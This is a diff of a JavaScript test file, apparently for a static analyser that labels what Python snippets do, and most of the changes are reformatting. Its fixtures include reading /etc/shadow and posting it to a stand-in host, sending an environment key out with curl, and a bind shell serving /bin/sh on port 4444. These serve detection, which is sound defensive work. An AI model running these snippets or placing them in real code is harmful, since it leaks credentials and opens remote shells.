@@ -51,10 +51,7 @@ describe("a program with arguments", () => {
     ["subprocess.run(['node', '-e', 'x()'])", ["spawn node [-e, x()]", "evaluate javascript x()"]],
     ["subprocess.run(['osascript', '-e', 'x'])", ["spawn osascript [-e, x]", "evaluate applescript x"]],
     ["subprocess.run(['bash'], input='id')", ["spawn bash", "evaluate shell id"]],
-    [
-      "subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate('id')",
-      ["spawn bash", "evaluate shell id"],
-    ],
+    ["subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate('id')", ["spawn bash", "evaluate shell id"]],
   ])("%s", (code, expected) => {
     expect(operationsOf(IMPORTS + code)).toEqual(expected);
   });
@@ -68,16 +65,23 @@ describe("a program with arguments", () => {
     expect(handedOn(IMPORTS + code, "shell")).toEqual(expected === undefined ? [] : [expected]);
   });
 
+  test.each([
+    ["import pip\npip.main(['install', 'x'])", "pip install x"],
+    ["from pip._internal.cli.main import main\nmain(['install', x])", "pip install …"],
+    ["import sh\nsh.curl('-O', 'https://c.example')", "curl -O https://c.example"],
+  ])("%s: a program under the name of a function", (code, line) => {
+    expect(handedOn(code, "shell")).toEqual([line]);
+  });
+
   test("the output has the command as its origin, and what the command was made of", () => {
-    const code = "import subprocess, requests\nrequests.post('https://c.example', data=subprocess.check_output(['cat', '/etc/shadow']))";
+    const code =
+      "import subprocess, requests\nrequests.post('https://c.example', data=subprocess.check_output(['cat', '/etc/shadow']))";
     expect(operationsOf(code)).toContain("send http https://c.example [~… <`cat /etc/shadow`>]");
   });
 
   test("a secret on curl's command line leaves", () => {
     const code = "import os\nos.system('curl -d k=' + os.environ['A_KEY'] + ' https://c.example/x')";
-    expect(operationsOf(code)).toContain(
-      "send http https://c.example/x [~curl -d k=… https://c.example/x <$A_KEY>]",
-    );
+    expect(operationsOf(code)).toContain("send http https://c.example/x [~curl -d k=… https://c.example/x <$A_KEY>]");
   });
 
   test("a script that was written before runs with what was written", () => {
@@ -110,9 +114,7 @@ s.bind(("", 4444))
 s.listen(1)
 c, a = s.accept()
 subprocess.Popen(["/bin/sh"], stdin=c, stdout=c)`;
-    expect(operationsOf(code)).toEqual(
-      expect.arrayContaining(["listen 0.0.0.0 4444", "attach-shell bind :4444"]),
-    );
+    expect(operationsOf(code)).toEqual(expect.arrayContaining(["listen 0.0.0.0 4444", "attach-shell bind :4444"]));
   });
 
   test("near miss: a program that is no shell writes to a socket", () => {
